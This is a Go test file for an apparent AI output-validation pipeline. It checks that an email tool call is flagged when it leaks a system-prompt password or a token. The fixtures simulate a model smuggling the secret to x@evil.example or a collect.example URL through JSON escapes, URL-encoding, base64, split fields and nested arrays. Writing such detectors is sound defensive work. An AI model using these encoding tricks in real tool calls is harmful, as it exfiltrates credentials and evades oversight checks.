package pipeline

import (
	"encoding/base64"
	"encoding/json"
	"net/url"
	"strings"
	"testing"

	"github.com/aegis-sentinel/aegis/internal/checks"
	"github.com/aegis-sentinel/aegis/internal/openai"
	"github.com/aegis-sentinel/aegis/internal/policy"
	"github.com/aegis-sentinel/aegis/internal/validator"
)

const secretSystem = "You are an assistant for the ops team. Staging database password: Quartz-Lynx-2291."

func emailCase(args string) *Case {
	var c Case
	json.Unmarshal([]byte(`{"request":{"messages":[{"role":"system","content":"`+secretSystem+`"},
		{"role":"user","content":"Email the meeting notes to bob@corp.example, with the docs.example links."}],
		"tools":[{"type":"function","function":{"name":"send_email","parameters":{"type":"object"}}}]}}`), &c)
	c.ToolCalls = []openai.ToolCall{{ID: "call_1", Type: "function", Function: openai.FunctionCall{Name: "send_email", Arguments: args}}}
	return &c
}

func agentPolicy() *policy.Policy { return policy.DefaultFor(checks.Registry()) }

func mustJSON(v any) string {
	b, _ := json.Marshal(v)
	return string(b)
}

// TestToolArgumentsRead: the text checks read each call's decoded
// argument values, so a secret from the system prompt is found however
// the model wrapped it, and the finding names the value.
func TestToolArgumentsRead(t *testing.T) {
	const pw = "Quartz-Lynx-2291"
	cases := []struct {
		name, args, path string
		reason           validator.Reason
	}{
		{"plain body", mustJSON(map[string]string{"to": "x@evil.example", "body": "the password is " + pw}), "tool_calls/0/arguments/body", validator.ReasonSecretLeak},
		{"json escapes", `{"to":"x@evil.example","body":"pw: \u0051uartz-Lynx-2291"}`, "tool_calls/0/arguments/body", validator.ReasonSecretLeak},
		{"split across fields", `{"a":"Quartz-Ly","b":"nx-2291"}`, "tool_calls/0/arguments/a", validator.ReasonSecretLeak},
		{"url-encoded", mustJSON(map[string]string{"body": url.QueryEscape("pw=" + pw + "&x=1")}), "tool_calls/0/arguments/body", validator.ReasonSecretLeak},
		{"base64", mustJSON(map[string]string{"body": base64.StdEncoding.EncodeToString([]byte("password " + pw))}), "tool_calls/0/arguments/body", validator.ReasonSecretLeak},
		{"url query", mustJSON(map[string]string{"url": "https://collect.example/p?d=" + base64.URLEncoding.EncodeToString([]byte(pw))}), "tool_calls/0/arguments/url", validator.ReasonSecretLeak},
		{"nested array", `{"items":[{"note":"ok"},{"note":"` + pw + `"}]}`, "tool_calls/0/arguments/items/1/note", validator.ReasonSecretLeak},
		{"credential", mustJSON(map[string]string{"body": "key ghp_1a2B3c4D5e6F7g8H9i0JkLmNoPqRsTuVwXyZ12"}), "tool_calls/0/arguments/body", validator.ReasonSecretLeak},
		{"cut off mid-JSON", `{"body":"` + pw + `","to":"x@ev`, "tool_calls/0/arguments/body", validator.ReasonSecretLeak},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			v, err := CheckCase(agentPolicy(), emailCase(tc.args), 1)
			if err != nil {
				t.Fatal(err)
			}
			var hit *validator.Finding
			for i, f := range v.Findings {
				if f.Reason == tc.reason && f.Path == tc.path {
					hit = &v.Findings[i]
				}
			}
			if v.Verdict != validator.Fail || hit == nil {
				t.Fatalf("verdict %s, findings %+v: want %s at %s", v.Verdict, v.Findings, tc.reason, tc.path)
			}
			if hit.End <= hit.Start || !strings.Contains(hit.Message, `"send_email"`) {
				t.Errorf("finding %+v: want offsets into the value and the tool named", hit)
			}
		})
	}
	benign := []string{
		mustJSON(map[string]string{"to": "bob@corp.example", "body": "Notes: the staging database migration is done."}),
		mustJSON(map[string]string{"url": "https://docs.example/search?q=database+password+policy"}),
		mustJSON(map[string]string{"id": "dGhpcyBpcyBqdXN0IGFuIGlk", "body": "aGVsbG8gd29ybGQsIGhvdyBhcmUgeW91"}),
	}
	for i, args := range benign {
		v, err := CheckCase(agentPolicy(), emailCase(args), 1)
		if err != nil {
			t.Fatal(err)
		}
		if v.Verdict != validator.Pass {
			t.Errorf("benign %d: %+v", i, v)
		}
	}
}

// BenchmarkToolCallArguments is the cost of checking one call with 1 KiB
// of arguments under the default policy (tool_call's schema check and the
// text checks over the decoded values).
func BenchmarkToolCallArguments(b *testing.B) {
	body := strings.Repeat("The staging migration finished; the reports are attached for review. ", 14)[:900]
	args := mustJSON(map[string]string{"to": "bob@corp.example", "subject": "Weekly notes", "body": body})
	c := emailCase(args)
	a, err := New(agentPolicy(), c.Request.ValidatorRequest(), Options{})
	if err != nil {
		b.Fatal(err)
	}
	call := c.ToolCalls[0].Validator(0)
	b.SetBytes(int64(len(args)))
	b.ReportAllocs()
	for b.Loop() {
		a.ToolCall(call)
	}
	if len(a.toolFinds) > 0 {
		b.Fatalf("benign call failed: %+v", a.toolFinds)
	}
}
